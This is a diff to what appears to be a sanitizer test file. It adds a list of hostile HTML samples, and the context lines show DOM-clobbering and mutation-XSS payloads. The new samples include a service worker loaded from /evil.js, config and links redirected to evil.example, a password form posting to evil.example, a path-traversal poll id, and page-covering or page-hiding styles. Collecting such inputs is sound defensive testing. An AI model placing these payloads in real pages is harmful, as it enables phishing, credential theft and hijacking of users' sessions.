@@ -63,6 +63,19 @@ export const markup: readonly string[] = [
   '<img name=cookie><img name=currentScript>',
 ]
 
+/** Markers and elements that the page of a list may not bring: each acts in the page's or the reader's name. */
+export const cardMarkers: readonly string[] = [
+  '<div data-widget="page-shell" data-load="eager" data-service-worker="/evil.js"></div>',
+  '<div data-widget="profile" data-load="eager"><script type="application/json">{"links":{"subscription":"https://evil.example/"}}</script></div>',
+  '<div data-widget="login" data-load="eager"></div>',
+  '<div data-widget="ad" data-load="eager" data-id="x" data-ad-unit-code="y" data-slot-type="rectangle">Ad</div>',
+  '<div data-widget="poll" data-load="eager" data-poll-id="../user/content/1002/save?x=">Poll</div>',
+  '<p data-quiosc-config hidden>{"apiBase":"https://evil.example/api"}</p>',
+  '<form action="https://evil.example/"><input type="password" name="p"><button>Send</button></form>',
+  '<div style="position: fixed; inset: 0">Above the page</div>',
+  '<style>body { display: none }</style>',
+]
+
 /** Markup that changes when it is parsed a second time, known from attacks on sanitizers. */
 export const mutations: readonly string[] = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
